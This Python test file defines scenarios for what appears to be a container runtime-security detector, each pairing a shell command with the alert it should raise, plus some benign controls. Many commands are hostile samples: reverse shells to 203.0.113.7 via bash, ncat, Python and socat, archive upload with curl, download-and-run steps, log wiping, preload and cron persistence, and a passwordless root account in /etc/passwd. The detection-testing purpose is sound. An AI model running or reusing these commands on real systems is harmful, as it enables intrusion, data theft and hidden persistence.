"""Miners, shells, dropped tools, traces removed, persistence, drift."""

from tests.pack.scenario import Scenario

_TOOL = "/usr/local/bin/worker"
"""A program of the image that does nothing, to be copied."""

SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        "a miner by its name",
        "xmrig --config=config.json; true",
        ("impact/cryptocurrency_miner_started",),
        stubs=("/usr/local/bin/xmrig",),
    ),
    Scenario(
        "a miner by its pool",
        "worker -o stratum+tcp://pool.invalid:3333 -u wallet; true",
        ("impact/mining_pool_on_command_line",),
        stubs=(_TOOL,),
    ),
    Scenario(
        "a shell on a socket of bash",
        "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'; true",
        ("execution/reverse_shell_bash_socket",),
        stubs=("/bin/bash",),
    ),
    Scenario(
        "netcat runs a shell",
        "ncat -e /bin/sh 203.0.113.7 4444; true",
        ("execution/reverse_shell_netcat",),
        stubs=("/usr/local/bin/ncat",),
    ),
    Scenario(
        "Python joins a socket and a shell",
        'python3 -c \'import socket,pty; socket.create_connection(("203.0.113.7", 4444)); pty.spawn("sh")\'; true',
        ("execution/reverse_shell_interpreter",),
        stubs=("/usr/bin/python3",),
    ),
    Scenario(
        "socat runs a shell",
        "socat OPENSSL:203.0.113.7:443 EXEC:/bin/sh,pty,stderr,setsid; true",
        ("execution/reverse_shell_socat",),
        stubs=("/usr/bin/socat",),
    ),
    Scenario(
        "netcat behind a named pipe",
        "/bin/mkfifo /tmp/f; ncat 203.0.113.7 4444; true",
        ("execution/reverse_shell_named_pipe",),
        stubs=("/usr/local/bin/ncat",),
    ),
    Scenario(
        "a program is put among the system's",
        f"cp {_TOOL} /usr/local/bin/kube-helper; kube-helper; true",
        ("defense_evasion/file_put_among_programs_then_run",),
        stubs=(_TOOL,),
    ),
    Scenario(
        "a program in shared memory",
        f"cp {_TOOL} /dev/shm/k; /dev/shm/k; true",
        ("defense_evasion/program_run_from_memory",),
        stubs=(_TOOL,),
    ),
    Scenario(
        "a program without a file",
        "payload 'exec-memfd tool tool exit%200'; true",
        ("defense_evasion/program_run_without_a_file",),
    ),
    Scenario(
        "a service downloads, unlocks and runs",
        "wget -q $WEB/tool -O /tmp/tool; chmod +x /tmp/tool; /tmp/tool; true",
        ("command_and_control/service_user_downloads_and_runs",),
        user=1000,
    ),
    Scenario(
        "somebody at a terminal downloads and runs",
        """
        wget -q $WEB/tool -O /root/tool
        chmod +x /root/tool
        /root/tool
        """,
        ("command_and_control/unchecked_download_run_at_terminal",),
        typed=True,
    ),
    Scenario(
        "a tunnel",
        "chisel client 203.0.113.7:443 R:socks; true",
        ("command_and_control/tunnel_started",),
        stubs=("/usr/local/bin/chisel",),
    ),
    Scenario(
        "a package is installed",
        "apt-get install -y jq; true",
        ("command_and_control/package_installed",),
        stubs=("/usr/bin/apt-get",),
    ),
    Scenario(
        "files are packed and sent away",
        "tar -cf /tmp/d.tar /opt; curl -T /tmp/d.tar https://203.0.113.7/upload; true",
        ("exfiltration/archive_made_then_uploaded",),
        stubs=("/usr/bin/curl",),
    ),
    Scenario(
        "a program is decoded and run",
        f"base64 {_TOOL} > /tmp/k.txt; /bin/base64 -d /tmp/k.txt > /tmp/k; chmod +x /tmp/k; /tmp/k; true",
        ("defense_evasion/decoded_then_program_run",),
        stubs=(_TOOL,),
    ),
    Scenario(
        "a program in a hidden folder",
        f"mkdir /tmp/.cache; cp {_TOOL} /tmp/.cache/httpd; /tmp/.cache/httpd; true",
        ("defense_evasion/hidden_program_run",),
        stubs=(_TOOL,),
    ),
    Scenario(
        "a log of logins is deleted",
        "mkdir -p /var/log; payload 'create /var/log/auth.log'; rm /var/log/auth.log",
        ("defense_evasion/system_logs_wiped",),
    ),
    Scenario(
        "a history is deleted",
        "echo id > /root/.ash_history; rm /root/.ash_history",
        ("defense_evasion/shell_history_wiped",),
    ),
    Scenario(
        "a program deletes itself",
        "cp /bin/payload /tmp/implant; /tmp/implant 'unlink /tmp/implant' 'sleep 20'; true",
        ("defense_evasion/running_program_deleted",),
    ),
    Scenario(
        "a program with a service's name",
        f"cp {_TOOL} /tmp/sshd; /tmp/sshd; true",
        ("defense_evasion/system_name_from_writable_folder",),
        stubs=(_TOOL,),
    ),
    Scenario(
        "a program that looks like a kernel thread",
        f"(exec -a '[kworker/0:1]' {_TOOL}); true",
        ("defense_evasion/kernel_thread_imitated",),
        stubs=(_TOOL,),
    ),
    Scenario(
        "somebody at a terminal compiles",
        "gcc -o /tmp/x /tmp/x.c",
        ("defense_evasion/compiler_used_at_terminal",),
        typed=True,
        stubs=("/usr/bin/gcc",),
    ),
    Scenario(
        "a setuid bit",
        "/bin/chmod 4755 /tmp",
        ("privilege_escalation/setuid_bit_set",),
    ),
    Scenario(
        "a library for all programs",
        "echo /opt/l.so > /etc/ld.so.preload",
        ("persistence/ld_preload_file_written",),
    ),
    Scenario(
        "a library for one program",
        "/bin/env LD_PRELOAD=/tmp/l.so worker; true",
        ("persistence/library_preloaded_from_writable_folder",),
        stubs=(_TOOL,),
    ),
    Scenario(
        "an entry of cron",
        "mkdir /etc/cron.d; echo '* * * * * root /opt/x' > /etc/cron.d/job",
        ("persistence/cron_entry_written",),
    ),
    Scenario(
        "a key that may log in",
        "mkdir /root/.ssh; echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",
        ("persistence/ssh_authorized_keys_written",),
    ),
    Scenario(
        "a profile for all shells",
        "mkdir /etc/profile.d; echo 'alias ls=id' > /etc/profile.d/zz.sh",
        ("persistence/shell_profile_changed",),
    ),
    Scenario(
        "the entry script",
        "echo '/opt/x &' > /entrypoint.sh",
        ("persistence/startup_script_changed",),
    ),
    Scenario(
        "an account",
        "echo 'toor::0:0::/root:/bin/sh' >> /etc/passwd",
        ("persistence/account_files_changed",),
    ),
    Scenario(
        "a web server runs a command",
        "/usr/sbin/nginx 'child exec /bin/sh -c true'; true",
        ("persistence/shell_under_web_server",),
        payloads=("/usr/sbin/nginx",),
    ),
    Scenario(
        "a step of a build downloads an installer, runs and removes it",
        "wget -q $WEB/tool -O /tmp/setup; chmod +x /tmp/setup; /tmp/setup; rm /tmp/setup; /bin/chmod 1777 /var/tmp",
    ),
    Scenario(
        "logs are rotated",
        "mkdir -p /var/log/app; echo a > /var/log/app/a.log; mv /var/log/app/a.log /var/log/app/a.log.1; "
        "/bin/gzip /var/log/app/a.log.1; rm /var/log/app/a.log.1.gz",
    ),
    Scenario(
        "a password is decoded for a client",
        "echo c2VjcmV0Cg== | /bin/base64 -d > /run/password; worker --password-file /run/password; rm /run/password",
        stubs=(_TOOL,),
    ),
    Scenario(
        "a backup goes to a volume",
        "mkdir /backup; tar -czf /backup/etc.tgz /opt; curl -o /dev/null https://198.51.100.2/ping; true",
        stubs=("/usr/bin/curl",),
    ),
    Scenario(
        "somebody at a terminal looks round and repairs a file",
        """
        ls -la /tmp
        cat /etc/os-release
        echo 'export EDITOR=vi' >> /root/.profile
        wget -q $WEB/tool -O /root/tool
        /bin/sha256sum /root/tool
        chmod 755 /root/tool
        /root/tool
        """,
        typed=True,
    ),
)
